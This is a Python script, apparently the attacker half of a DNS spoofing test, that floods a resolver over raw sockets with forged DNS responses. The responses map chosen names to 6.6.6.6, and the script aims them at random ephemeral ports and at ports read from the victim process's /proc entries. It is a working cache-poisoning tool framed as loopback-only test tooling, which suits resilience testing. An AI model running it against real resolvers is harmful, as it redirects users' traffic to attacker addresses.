#!/usr/bin/env python3
"""Floods a resolver with forged DNS responses (the spoofing test's attacker; root, loopback only).

    forger.py --source 127.53.3.1 --target 127.0.0.1 --pid PID --names FILE --count 120000

Each packet is a UDP datagram from SOURCE:53 (a raw socket with IP_HDRINCL forges the source
address) to TARGET, claiming that one of the NAMES has the address 6.6.6.6, with a random DNS ID.
Half the packets go to random ports of the ephemeral range; the other half to the UDP ports that
process PID currently has connected to SOURCE:53 (read from /proc every few milliseconds), which is
the best an off-path attacker who guesses ports well could do. Prints a JSON line of figures.
"""

from __future__ import annotations

import argparse
import json
import os
import random
import socket
import struct
import threading
import time

POISON = bytes([6, 6, 6, 6])


def dns_payload(name: str) -> bytes:
    """A response without its ID: flags QR AA, one question, one A record 6.6.6.6."""
    q = b"".join(bytes([len(l)]) + l.encode() for l in name.rstrip(".").split(".")) + b"\x00"
    return (struct.pack("!HHHHH", 0x8400, 1, 1, 0, 0) + q + struct.pack("!HH", 1, 1)
            + b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 3600, 4) + POISON)


def live_ports(pid: int, source: str) -> list[int]:
    """Local ports of PID's UDP sockets connected to source:53."""
    inodes = set()
    try:
        for fd in os.listdir(f"/proc/{pid}/fd"):
            try:
                link = os.readlink(f"/proc/{pid}/fd/{fd}")
            except OSError:
                continue
            if link.startswith("socket:["):
                inodes.add(link[8:-1])
    except OSError:
        return []
    want = "%08X:0035" % struct.unpack("<I", socket.inet_aton(source))[0]
    ports = []
    try:
        with open("/proc/net/udp") as f:
            next(f)
            for line in f:
                parts = line.split()
                if parts[2] == want and parts[9] in inodes:
                    ports.append(int(parts[1].split(":")[1], 16))
    except OSError:
        pass
    return ports


def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("--source", required=True)
    ap.add_argument("--target", default="127.0.0.1")
    ap.add_argument("--pid", type=int, required=True)
    ap.add_argument("--names", required=True)
    ap.add_argument("--count", type=int, default=120_000)
    ap.add_argument("--rate", type=int, default=60_000, help="packets per second at most")
    args = ap.parse_args()
    names = [n.strip() for n in open(args.names) if n.strip()]
    payloads = [dns_payload(n) for n in names]
    lo, hi = (int(x) for x in open("/proc/sys/net/ipv4/ip_local_port_range").read().split())
    src = socket.inet_aton(args.source)
    dst = socket.inet_aton(args.target)
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    live: list[int] = []
    stop = threading.Event()
    seen_live = set()

    def watch() -> None:
        nonlocal live
        while not stop.is_set():
            live = live_ports(args.pid, args.source)
            seen_live.update(live)
            time.sleep(0.003)

    watcher = threading.Thread(target=watch, daemon=True)
    watcher.start()
    sent = to_live = 0
    start = time.monotonic()
    rnd = random.Random()
    while sent < args.count:
        ports = live
        for _ in range(256):
            payload = payloads[sent % len(payloads)]
            if sent % 2 and ports:
                port = rnd.choice(ports)
                to_live += 1
            else:
                port = rnd.randint(lo, hi)
            dns = struct.pack("!H", rnd.getrandbits(16)) + payload
            udp = struct.pack("!HHHH", 53, port, 8 + len(dns), 0) + dns
            ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, socket.IPPROTO_UDP, 0, src, dst)
            sock.sendto(ip + udp, (args.target, 0))
            sent += 1
        ahead = sent / args.rate - (time.monotonic() - start)
        if ahead > 0:
            time.sleep(ahead)
    stop.set()
    watcher.join(timeout=1)
    print(json.dumps({"sent": sent, "to_live_ports": to_live, "live_ports_seen": len(seen_live),
                      "seconds": round(time.monotonic() - start, 2)}), flush=True)


if __name__ == "__main__":
    main()
